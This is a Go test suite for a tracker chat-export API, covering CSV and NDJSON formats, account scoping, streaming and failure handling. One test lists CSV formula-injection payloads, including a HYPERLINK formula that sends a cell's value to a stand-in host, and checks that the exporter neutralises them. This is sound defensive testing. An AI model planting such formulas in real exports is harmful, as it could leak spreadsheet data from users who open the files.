package api_test

import (
	"bufio"
	"compress/gzip"
	"context"
	"encoding/csv"
	"encoding/hex"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"slices"
	"strings"
	"testing"

	"trackchat/api"
	"trackchat/queue"
)

// download asks for an export, by the query.
func (w *world) download(method, query string, header ...string) answer {
	w.tb.Helper()
	a, err := w.tryDownload(method, query, header...)
	if err != nil {
		w.tb.Fatalf("%s after %d bytes", err, len(a.body))
	}
	return a
}

func (w *world) tryDownload(method, query string, header ...string) (answer, error) {
	w.tb.Helper()
	req, err := http.NewRequestWithContext(w.tb.Context(), method,
		w.url+"/v2/tracker/chat/export?"+query, nil)
	if err != nil {
		w.tb.Fatal(err)
	}
	for i := 0; i < len(header); i += 2 {
		req.Header.Set(header[i], header[i+1])
	}
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		return answer{}, err
	}
	defer resp.Body.Close()
	body, err := io.ReadAll(resp.Body)
	return answer{resp.StatusCode, resp.Header, string(body)}, err
}

// table reads the lines of a CSV file, each by the names of its columns.
func (a answer) table(tb testing.TB) (lines []map[string]string) {
	tb.Helper()
	rest, ok := strings.CutPrefix(a.body, "\ufeff")
	if !ok || a.status != http.StatusOK ||
		a.header.Get("Content-Type") != "text/csv; charset=utf-8" {
		tb.Fatalf("%d %v %.200s", a.status, a.header, a.body)
	}
	// The reader takes CRLF for LF, so the ends of lines are compared by themselves.
	rows, err := csv.NewReader(strings.NewReader(rest)).ReadAll()
	if err != nil || !strings.HasSuffix(rest, "\r\n") {
		tb.Fatal(err, rest)
	}
	for _, row := range rows[1:] {
		line := make(map[string]string, len(row))
		for i, cell := range row {
			line[rows[0][i]] = cell
		}
		lines = append(lines, line)
	}
	return lines
}

func ofAccount(key, rest string) string { return "hash=" + key + rest }

func TestExportCSV(t *testing.T) {
	w := newWorld(t)
	out := w.form("tracker/chat/send", "tracker_id", "101", "message", "a \"b\",\nc;d", "choices",
		"=yes,no", "ttl", "60", "author", "Ann").id(t)
	hash := queue.HashKey(berlinKey)
	keyID := hex.EncodeToString(hash[:])
	w.clock.Add(1000)
	in := w.receive(101, "in")
	w.clock.Add(1000)
	w.ack(101, out)
	failed := w.send(101, "refused")
	w.end(101, failed, queue.StatusFailed, queue.ReasonMoved)
	a := w.download(http.MethodGet, ofAccount(berlinKey, "&tracker_id=101"))
	const head = "\ufefftracker_id,tracker,id,type,submit_time,update_time,status,employee_id,text,state,parts,parts_acked,delivered_at,read_at,expires_at,reason,replaced,choices,reply_to,author,author_kind,author_id\r\n"
	want := head + `101,"Truck ""1"" <é>",` + itoa(out) + `,OUTGOING,2016-02-29 11:00:00,2016-02-29 11:00:02,DELIVERED,7,"a ""b"",` + "\n" +
		`c;d",DELIVERED,1,1,2016-02-29 11:00:02,,2016-02-29 11:01:00,,,"'=yes` + "\n" + `no",,"Ann","key","` + keyID[:16] + `"` + "\r\n" +
		`101,"Truck ""1"" <é>",` + itoa(in) + `,INCOMING,2016-02-29 11:00:01,,PENDING,,"in",,,,,,,,,,,,,` + "\r\n" +
		`101,"Truck ""1"" <é>",` + itoa(failed) + `,OUTGOING,2016-02-29 11:00:02,,PENDING,,"refused",FAILED,1,0,,,,"tracker moved to another account",,,,,,` + "\r\n"
	if a.body != want {
		t.Errorf("got  %q\nwant %q", a.body, want)
	}
	if got := a.header.Get("Content-Disposition"); got != `attachment; filename="trackchat-101-2016-02-29.csv"` {
		t.Errorf("file name %s", got)
	}
	lines := w.download(http.MethodPost, ofAccount(berlinKey, "&tracker_id=101&iso_datetime=1"+
		"&from=2016-02-29T10:00:01Z&to=2016-02-29T10:00:01Z")).table(t)
	if len(lines) != 1 || lines[0]["submit_time"] != "2016-02-29T11:00:01+01:00" {
		t.Errorf("a second: %v", lines)
	}
	empty := w.download(http.MethodGet, ofAccount(berlinKey, "&tracker_id=102&from=2015-01-01+00:00:00"))
	if empty.body != head || empty.header.Get("Content-Disposition") !=
		`attachment; filename="trackchat-102-2015-01-01-2016-02-29.csv"` {
		t.Errorf("empty: %v %q", empty.header, empty.body)
	}
}

// TestExportedCellsAreNotRun: a spreadsheet that opens the file computes nothing.
func TestExportedCellsAreNotRun(t *testing.T) {
	w := newWorld(t)
	var hostile, told []string
	for _, c := range [][2]string{
		{`=HYPERLINK("http://x/?"&A1,"click")`, `'=HYPERLINK("http://x/?"&A1,"click")`},
		{"+1+1", "'+1+1"},
		{"-2+3", "'-2+3"},
		{"@SUM(A1)", "'@SUM(A1)"},
		{"\tx", "'\tx"},
		{"\r=1", "'\r'=1"},
		{"= 1", "'= 1"},
		{" =1", " '=1"},
		{"a=1", "a=1"},
		{"'=1", "'=1"},
		{"a,=1", "a,=1"},
		{"a\n=1", "a\n'=1"},
		{`ok; =HYPERLINK("x";"y")`, `ok; '=HYPERLINK("x";"y")`},
		{"a\t=1", "a\t'=1"},
		{`"=1`, `"=1`},
		{"bad \xff utf8", "bad \ufffd utf8"},
	} {
		hostile, told = append(hostile, c[0]), append(told, c[1])
	}
	w.receiveAll(101, hostile...)
	lines := w.download(http.MethodGet, ofAccount(berlinKey, "&tracker_id=101")).table(t)
	if len(lines) != len(hostile) {
		t.Fatalf("%d lines", len(lines))
	}
	for i, line := range lines {
		if line["text"] != told[i] {
			t.Errorf("%q is %q", hostile[i], line["text"])
		}
	}
	a := w.download(http.MethodGet, ofAccount(berlinKey, "&tracker_id=101&format=ndjson"))
	first, _, _ := strings.Cut(a.body, "\n")
	var got struct{ Message message }
	if err := json.Unmarshal([]byte(first), &got); err != nil || got.Message.Text != hostile[0] {
		t.Errorf("%v %s", err, first)
	}
}

func TestExportNDJSON(t *testing.T) {
	w := newWorld(t)
	in := w.receive(101, "question")
	out := w.form("tracker/chat/send", "tracker_id", "101", "message", "answer", "reply_to",
		itoa(in), "choices", "yes").id(t)
	a := w.download(http.MethodGet, ofAccount(berlinKey, "&tracker_id=101&format=ndjson"))
	detail := func(id int64) (message, more string) {
		t.Helper()
		body := w.form("tracker/chat/read", "message_id", itoa(id)).body
		value := strings.TrimSuffix(strings.TrimPrefix(body, `{"success":true,"value":`), "}")
		at := strings.Index(value, `,"delivery"`)
		return value[:at] + "}", value[at:]
	}
	want := ""
	for _, id := range []int64{in, out} {
		m, more := detail(id)
		want += `{"tracker_id":101,"message":` + m + more + "\n"
	}
	if a.body != want || a.header.Get("Content-Type") != "application/x-ndjson" ||
		a.header.Get("Content-Disposition") !=
			`attachment; filename="trackchat-101-2016-02-29.ndjson"` {
		t.Errorf("%v\ngot  %s\nwant %s", a.header, a.body, want)
	}
}

// TestExportOfTheAccount: all that the account can list, and nothing else.
func TestExportOfTheAccount(t *testing.T) {
	w := newWorld(t)
	for _, id := range []queue.TrackerID{bulkLast, 102, 101, blocked, mute, cheap, foreign} {
		w.send(id, "of "+itoa(id))
	}
	w.clock.Add(24 * 3600 * 1000)
	w.send(1001, "a day later")
	get := func(key, rest string) string {
		t.Helper()
		var all []string
		for _, line := range w.download(http.MethodGet, ofAccount(key, rest)).table(t) {
			all = append(all, line["tracker_id"]+" "+line["text"])
		}
		return strings.Join(all, ",")
	}
	if got := get(berlinKey, ""); got != "101 of 101,102 of 102,1001 a day later,1400 of 1400" {
		t.Errorf("all: %s", got)
	}
	if got := get(berlinKey, "&from=2016-03-01+00:00:00"); got != "1001 a day later" {
		t.Errorf("since then: %s", got)
	}
	if got := get(berlinKey, "&to=2016-02-29+23:59:59"); got != "101 of 101,102 of 102,1400 of 1400" {
		t.Errorf("until then: %s", got)
	}
	m := w.moved(queue.Former{Account: 1})
	w.send(m.Key(), "fresh")
	if got := get(berlinKey, ""); !strings.HasPrefix(got, "101 of 101,102 of 102,") ||
		strings.Contains(got, "fresh") {
		t.Errorf("the former account: %s", got)
	}
	lines := w.download(http.MethodGet, ofAccount(berlinKey, "&tracker_id=101")).table(t)
	if len(lines) != 1 || lines[0]["tracker"] != "" {
		t.Errorf("of a tracker that is another's: %v", lines)
	}
	if got := get(uralKey, ""); got != "101 fresh,201 of 201" {
		t.Errorf("the present account: %s", got)
	}
	for key, code := range map[string]int{noChatKey: 236, emptyKey: 236, unknownKey: 4} {
		w.download(http.MethodGet, ofAccount(key, "")).refused(t, code)
	}
	ask := func(rest string) answer {
		return w.download(http.MethodGet, ofAccount(berlinKey, rest))
	}
	ask("&tracker_id=x&format=xlsx&from=x").invalid(t, "tracker_id", "from", "format")
	ask("&from=2016-03-01+00:00:00&to=2016-02-01+00:00:00").invalid(t, "from")
	a := ask("&tracker_id=999")
	a.refused(t, 201)
	if a.header.Get("Content-Type") != "application/json; charset=utf-8" ||
		a.header.Get("Content-Disposition") != "" {
		t.Errorf("refused with %v", a.header)
	}
}

// TestLongExport: in order, whole, by several pages and in either coding, while more is stored.
func TestLongExport(t *testing.T) {
	w := newWorld(t)
	all := make([]string, 3000)
	for i := range all {
		all[i] = itoa(i) + strings.Repeat(" text", 50)
	}
	ids := w.receiveAll(101, all...)
	plain := w.download(http.MethodGet, ofAccount(berlinKey, "&tracker_id=101"), "Accept-Encoding",
		"identity")
	var got []int64
	for i, line := range plain.table(t) {
		var id int64
		if _, err := fmt.Sscan(line["id"], &id); err != nil || line["text"] != all[i] {
			t.Fatal(i, err, line)
		}
		got = append(got, id)
	}
	if !slices.Equal(got, ids) {
		t.Errorf("%d messages of %d", len(got), len(ids))
	}
	if plain.header.Get("Content-Length") != "" {
		t.Errorf("header %v", plain.header)
	}
	zipped := w.download(http.MethodGet, ofAccount(berlinKey, "&tracker_id=101"), "Accept-Encoding",
		"gzip")
	z, err := gzip.NewReader(strings.NewReader(zipped.body))
	if err != nil {
		t.Fatal(err, zipped.header)
	}
	if b, err := io.ReadAll(z); err != nil || string(b) != plain.body ||
		len(zipped.body)*5 > len(b) {
		t.Errorf("%v: %d bytes of %d", err, len(zipped.body), len(plain.body))
	}
}

// TestExportBreaksOff: what cannot be completed is seen to be broken, in either coding.
func TestExportBreaksOff(t *testing.T) {
	f := new(fault)
	w := newWorld(t, func(o *api.Options) { f.Messages, o.Store = o.Store, f })
	w.receiveAll(101, slices.Repeat([]string{strings.Repeat("text ", 200)}, 500)...)
	for name, fail := range map[string]func() error{
		"store": func() error { return queue.ErrUnavailable },
		"key": func() error {
			list := accounts()
			list[0].Keys = nil
			w.dir.Replace(queue.NewSnapshot(list, trackers()))
			return nil
		},
		"tracker": func() error {
			list := trackers()
			list[0].Account = 2
			w.dir.Replace(queue.NewSnapshot(accounts(), list))
			return nil
		},
	} {
		for _, coding := range []string{"identity", "gzip"} {
			w.dir.Replace(queue.NewSnapshot(accounts(), trackers()))
			calls := 0
			f.before = func(context.Context) error {
				if calls++; calls == 6 {
					return fail()
				}
				return nil
			}
			a, err := w.tryDownload(http.MethodGet, ofAccount(berlinKey, "&tracker_id=101"),
				"Accept-Encoding", coding)
			// io.EOF where not even the header was sent by then.
			if !errors.Is(err, io.ErrUnexpectedEOF) && !errors.Is(err, io.EOF) {
				t.Errorf("%s, %s: %v after %d bytes", name, coding, err, len(a.body))
			}
		}
	}
	f.before = func(context.Context) error { return queue.ErrUnavailable }
	w.dir.Replace(queue.NewSnapshot(accounts(), trackers()))
	w.download(http.MethodGet, ofAccount(berlinKey, "")).refused(t, 14)
	f.before = nil

	conn, err := net.Dial("tcp", strings.TrimPrefix(w.url, "http://"))
	if err != nil {
		t.Fatal(err)
	}
	defer conn.Close()
	fmt.Fprintf(conn, "GET /v2/tracker/chat/export?hash=%s HTTP/1.0\r\n\r\n", berlinKey)
	resp, err := http.ReadResponse(bufio.NewReader(conn), nil)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	body, err := io.ReadAll(resp.Body)
	if err != nil {
		t.Fatal(err)
	}
	answer{resp.StatusCode, resp.Header, string(body)}.refused(t, 5)
}

// TestExportsAtATime: an account has a few, which hold no place of an operation, and a client that
// leaves gives its own back.
func TestExportsAtATime(t *testing.T) {
	w := newWorld(t)
	w.receiveAll(101, slices.Repeat([]string{strings.Repeat("text ", 2000)}, 2000)...) // 20 MB
	running := func(n int) {
		t.Helper()
		if !eventually(func() bool { return w.metric("trackchat_http_exports") == float64(n) }) {
			t.Fatalf("%v exports run", w.metric("trackchat_http_exports"))
		}
	}
	begin := func() *http.Response {
		t.Helper()
		req, err := http.NewRequestWithContext(t.Context(), http.MethodGet,
			w.url+"/v2/tracker/chat/export?tracker_id=101&hash="+berlinKey, nil)
		if err != nil {
			t.Fatal(err)
		}
		req.Header.Set("Accept-Encoding", "identity")
		resp, err := http.DefaultClient.Do(req)
		if err != nil {
			t.Fatal(err)
		}
		t.Cleanup(func() { resp.Body.Close() })
		return resp
	}
	first, second, third := begin(), begin(), begin() //nolint:bodyclose // begin has them closed
	running(3)
	a := w.download(http.MethodGet, ofAccount(berlinKey, "&tracker_id=102"))
	a.refused(t, 15)
	if a.header.Get("Retry-After") != "10" || w.metric("trackchat_http_refused_total") != 1 {
		t.Errorf("refused with %v", a.header)
	}
	w.download(http.MethodGet, ofAccount(uralKey, "")).table(t)
	first.Body.Close()
	running(2)
	if n, err := io.Copy(io.Discard, second.Body); err != nil || n < 20_000_000 {
		t.Errorf("%d bytes: %v", n, err)
	}
	running(1)
	third.Body.Close()
	running(0)
	w.download(http.MethodGet, ofAccount(berlinKey, "&tracker_id=102")).table(t)
}
